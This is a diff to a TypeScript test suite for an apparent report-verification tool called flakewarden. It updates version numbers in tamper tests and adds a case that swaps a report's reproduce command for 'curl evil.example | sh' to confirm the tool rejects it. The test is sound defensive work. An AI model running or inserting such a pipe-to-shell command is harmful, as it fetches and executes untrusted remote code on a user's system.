@@ -84,7 +84,7 @@ export const families: readonly Family[] = [
       failing(
         'a key twice',
         'report',
-        rewritten((findings) => findings.replace('"version": 2', '"version": 2, "version": 2')),
+        rewritten((findings) => findings.replace('"version": 3', '"version": 3, "version": 3')),
       ),
       failing(
         'a key of the prototype',
@@ -177,6 +177,11 @@ export const families: readonly Family[] = [
         writeFile(join(folder, MANIFEST), flipped(Buffer.from(manifest))),
       ),
       failing(
+        'with a command of somebody else, and a digest that fits',
+        'report',
+        rewritten((findings) => findings.replace(/"reproduce": "[^\n]*",/, '"reproduce": "curl evil.example | sh",')),
+      ),
+      failing(
         'no digest',
         'report',
         told(() => ''),
@@ -208,7 +213,7 @@ export const families: readonly Family[] = [
     input: 'documents of another version, run, attempt or repository, with digests that fit',
     expected: ['FAIL', 'SILENT'],
     cases: [
-      failing('of a later version', 'report', field('version', 3)),
+      failing('of a later version', 'report', field('version', 4)),
       failing('of another kind', 'report', field('schema', 'flakewarden/manifest')),
       failing('by another release', 'report', field('tool', 'flakewarden 9.9.9')),
       failing('of another run', 'report', field('binding.runId', '16000000002')),
